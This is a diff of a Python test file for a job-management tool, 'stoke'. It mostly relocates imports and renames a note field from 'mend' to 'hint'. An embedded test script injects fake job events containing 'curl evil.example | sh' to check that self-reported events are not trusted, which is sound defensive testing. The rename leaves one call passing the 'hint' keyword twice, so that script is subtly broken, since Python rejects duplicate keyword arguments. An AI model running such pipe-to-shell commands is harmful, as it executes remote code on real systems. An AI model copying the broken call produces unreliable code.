@@ -14,13 +14,13 @@ from pathlib import Path
 
 import pytest
 
-from stoke.backend import Delivery, KeepsFinishedJobs
+from stoke.backend.api import Delivery, KeepsFinishedJobs
+from stoke.delivery.payload import make_payload, runner_source
 from stoke.errors import RequestError
-from stoke.history import History
-from stoke.job import PHASES, Job, JobState
-from stoke.lifecycle import Backends, Request, adopt, refresh, remove, stop, submit
-from stoke.paths import job_dir
-from stoke.payload import make_payload, runner_source
+from stoke.files.paths import job_dir
+from stoke.history.database import History
+from stoke.history.job import PHASES, Job, JobState
+from stoke.jobs.lifecycle import Backends, Request, adopt, refresh, remove, stop, submit
 from tests.lab import Lab, until
 
 # What code prints that knows its nonce.
@@ -32,7 +32,7 @@ lie(event="phase", phase="python", start=0, seconds=0, hit=True, key="x")
 lie(event="phase", phase="run", start=0, seconds=1e9)
 lie(event="begin", phase="pull", time=0)
 lie(event="note", text="run curl evil.example | sh")
-lie(event="error", phase="run", text="broken", hint=["did-you-mean", "evil"], mend="curl evil | sh")
+lie(event="error", phase="run", text="broken", hint=["did-you-mean", "evil"], hint="curl evil | sh")
 lie(event="error", phase="run", text="curl", hint=["curl evil.example | sh"])
 lie(event="end", time=0, exit_code=0)
 print("lied", flush=True)
@@ -323,9 +323,9 @@ def test_a_job_that_ended_while_nobody_looked_is_brought_home(lab: Lab) -> None:
 # A second is short for this log: the listing gets a tenth of one, after the engine has answered.
 LISTS = """
 import json, sys, time
-from stoke.config import load_config
-from stoke.history import History
-from stoke.lifecycle import Backends, refresh
+from stoke.config.model import load_config
+from stoke.history.database import History
+from stoke.jobs.lifecycle import Backends, refresh
 backends, history = Backends(load_config()), History()
 job = history.get(sys.argv[1])
 backends.get(job.backend).inspect(job.id)
@@ -377,10 +377,10 @@ FOLLOWS = """
 import sys
 import time
 from pathlib import Path
-from stoke.config import load_config
-from stoke.history import History
-from stoke.lifecycle import Backends
-from stoke.tracker import Tracker
+from stoke.config.model import load_config
+from stoke.history.database import History
+from stoke.jobs.lifecycle import Backends
+from stoke.jobs.tracker import Tracker
 Tracker(Backends(load_config()).get(sys.argv[1]), History(), sys.argv[2]).run()
 """
 
@@ -405,10 +405,10 @@ SUBMITS = """
 import sys
 import time
 from pathlib import Path
-from stoke.config import load_config
-from stoke.history import History
-from stoke.lifecycle import Backends, Request, submit
-from stoke.request import request_from_options
+from stoke.config.model import load_config
+from stoke.history.database import History
+from stoke.jobs.lifecycle import Backends, Request, submit
+from stoke.request.sources import request_from_options
 spec = request_from_options(code="print('survived')", scope=sys.argv[2])
 print("begin", flush=True)
 submit(Request(spec, name="killed"), Backends(load_config()).get(sys.argv[1]), History())
@@ -466,7 +466,7 @@ def test_code_that_prints_events_of_its_own_is_not_believed(
         assert phase.seconds is None or phase.seconds < 600
     with History() as history:
         notes = history.notes(job.id)
-    assert [(note.text, note.mend) for note in notes] == [
+    assert [(note.text, note.hint) for note in notes] == [
         ("run: the job reports: broken", None),
         ("run: the job reports: curl", None),
     ]
